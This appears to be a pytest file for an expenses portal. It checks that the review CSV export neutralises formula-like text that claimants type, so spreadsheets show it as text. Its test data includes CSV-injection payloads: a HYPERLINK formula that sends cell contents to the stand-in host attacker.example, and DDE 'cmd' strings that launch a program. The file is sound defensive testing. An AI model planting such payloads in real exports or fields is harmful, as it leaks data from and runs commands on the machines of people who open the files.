"""The expense lines CSV opens safely in a spreadsheet: nothing a claimant typed runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from portal.exports import neutralise
from tests.expenses_web.conftest import add_line, open_claim

# A leading tab or carriage return never gets this far (forms trim what is typed); the guard's
# own test below covers them.
FORMULAS = ["=HYPERLINK(\"https://attacker.example/?\"&A1,\"Receipt\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\uff1d1+1"]


def test_every_formula_like_description_reaches_the_spreadsheet_as_text(client, login, claimable, make_user):
    login(claimable.doctor)
    claim_id = open_claim(client, claimable)
    for n, description in enumerate(FORMULAS):
        response = add_line(client, claim_id, amount=str(10 + n), description=description,
                            receipt=f"%PDF-1.4\n% {n}\n".encode())
        assert response.status_code in (200, 303), response.status_code
    client.post(f"/expenses/claims/{claim_id}/submit")
    client.post("/logout")
    login(make_user(roles=["staff"], name="=cmd|'/C calc'!A0"))
    response = client.get("/expenses/review.csv")
    assert response.headers["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    descriptions = sorted(row[6] for row in rows[1:-1])
    assert len(descriptions) == len(FORMULAS)
    for cell in descriptions:
        assert cell.startswith("'"), cell
    # Amounts stay numbers, negative ones included.
    assert all(not row[7].startswith("'") for row in rows[1:-1])


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("-12.50", "-12.50"), ("-1+2", "'-1+2"), ("@x", "'@x"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Plain text", "Plain text"), ("", ""), (12, 12), (None, None), ("a=b", "a=b"),
])
def test_the_guard(value, shown):
    assert neutralise(value) == shown
